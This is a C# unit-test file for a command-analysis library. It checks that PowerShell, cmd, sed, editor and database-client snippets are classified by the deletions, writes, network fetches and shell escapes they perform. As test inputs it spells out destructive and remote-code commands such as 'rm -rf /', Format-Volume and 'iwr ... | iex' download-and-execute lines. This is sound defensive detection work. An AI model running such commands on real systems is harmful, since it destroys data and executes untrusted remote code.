using System.Text;
using SigmaShake.Rules.Analysis.Code;
using SigmaShake.Rules.Programs;

namespace SigmaShake.Rules.Tests.Analysis.Code;

/// <summary>What code in PowerShell, sed, editors and clients for databases does.</summary>
public sealed class OtherCodeTests
{
    [Theory]
    [InlineData("Remove-Item -Recurse -Force C:\\x", "Spelling: Remove-Item -Recurse -Force C:\\x; rm -rf C:\\x")]
    [InlineData("ri -r -fo 'C:\\My Files'", "Spelling: ri -r -fo C:\\My Files; rm -rf C:\\My Files")]
    [InlineData("rm -rf /", "Spelling: rm -rf /; rm -rf /")]
    [InlineData("del a, b", "Spelling: del a b; rm a b")]
    [InlineData("Get-ChildItem x | Remove-Item -Path y -Recurse", "Spelling: Get-ChildItem x; ls x; Spelling: Remove-Item -Path y -Recurse; rm -r y")]
    [InlineData("if ($true) { Remove-Item a }", "Spelling: Remove-Item a; rm a")]
    [InlineData("$d = 'C:\\x'; Remove-Item -Recurse \"$d\"", "Spelling: Remove-Item -Recurse C:\\x; rm -r C:\\x")]
    [InlineData("Remove-Item $d", "Spelling: Remove-Item <$d>; rm <$d>")]
    [InlineData("[IO.File]::Delete('a')", "rm a")]
    [InlineData("Set-Content -Path a -Value 'b'", "Write: a")]
    [InlineData("iwr https://x.example -OutFile a.ps1", "curl -o a.ps1 https://x.example")]
    [InlineData("iwr -useb https://x.example | iex", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("iex (irm https://x.example)", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("IEX ((New-Object Net.WebClient).DownloadString('https://x.example'))", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("$c = New-Object Net.WebClient; $s = $c.DownloadString('https://x.example'); iex $s", "Network: https://x.example; RemoteCode: https://x.example")]
    [InlineData("Invoke-Expression 'Remove-Item a'", "Code: Remove-Item a")]
    [InlineData("Format-Volume -DriveLetter C; Stop-Computer -Force", "Spelling: Format-Volume -DriveLetter C; Spelling: Stop-Computer -Force; shutdown")]
    [InlineData("git push --force", "git push --force")]
    [InlineData("& 'git' push", "git push")]
    [InlineData("echo 'local'; Write-Host \"Remove-Item a\" # Remove-Item b", "")]
    [InlineData("$x = 'Remove-Item a'; <# Remove-Item b #>", "")]
    public void PowerShell(string code, string deeds)
    {
        // What is written itself is told beside what is done, but not where only files are written.
        var found = ShownDeeds.Of(Language.PowerShell, code);
        Assert.Equal(deeds, deeds.StartsWith("Write", StringComparison.Ordinal) ? found[(found.IndexOf("; ", StringComparison.Ordinal) + 2)..] : found);
    }

    [Theory]
    [InlineData("rd /s /q C:\\x", "Spelling: rd /s /q C:\\x|Command: rm -rf C:\\x")]
    [InlineData("RMDIR x", "Spelling: RMDIR x|Command: rmdir x")]
    [InlineData("del /f /s /q \"C:\\My Files\\*\"", "Spelling: del /f /s /q C:\\My Files\\*|Command: rm -rf C:\\My Files\\*")]
    [InlineData("echo a & d^el a", "Spelling: echo a|Spelling: del a|Command: rm a")]
    [InlineData("format C: /y", "Spelling: format C: /y")]
    [InlineData("git push && git pull", "Command: git push|Command: git pull")]
    public void Cmd(string code, string deeds) =>
        Assert.Equal(deeds, string.Join('|', CodeAnalysis.OfCmd(Encoding.UTF8.GetBytes(code)).Select(deed => $"{deed.Kind}: {string.Join(' ', deed.Words.Select(word => Encoding.UTF8.GetString(word.Text.Span)))}")));

    [Theory]
    [InlineData("s/a/b/w out", "Write: out")]
    [InlineData("/x/w out\np", "Write: out")]
    [InlineData("1e rm -rf /", "sh: rm -rf /")]
    [InlineData("s/.*/rm -rf \\//e", "sh: rm -rf \\/")]
    [InlineData("s/w e/r x/g; $!N; P; D", "")]
    [InlineData("/e w/d", "")]
    [InlineData("a w out", "")]
    public void Sed(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.Sed, code));

    [Theory]
    [InlineData(":!rm -rf /", "sh: rm -rf /")]
    [InlineData("silent !ls | wc", "sh: ls | wc")]
    [InlineData("r !ls", "sh: ls")]
    [InlineData("%s/a/b/g | w out", "Write: out")]
    [InlineData("call system('rm -rf /')", "sh: rm -rf /")]
    [InlineData("call delete('a')", "rm a")]
    [InlineData("wq", "")]
    public void Editors(string code, string deeds) => Assert.Equal(deeds, ShownDeeds.Of(Language.Editor, code));

    [Theory]
    [InlineData("\\! rm -rf /", "sh:  rm -rf /")]
    [InlineData(".shell rm -rf /", "sh: rm -rf /")]
    [InlineData("select 1;\n\\o out", "Write: out")]
    [InlineData("select '.shell ls'", "")]
    public void Clients(string code, string deeds) => Assert.Equal(deeds.Replace("  ", " ", StringComparison.Ordinal), ShownDeeds.Of(Language.Sql, code).Replace("  ", " ", StringComparison.Ordinal));
}
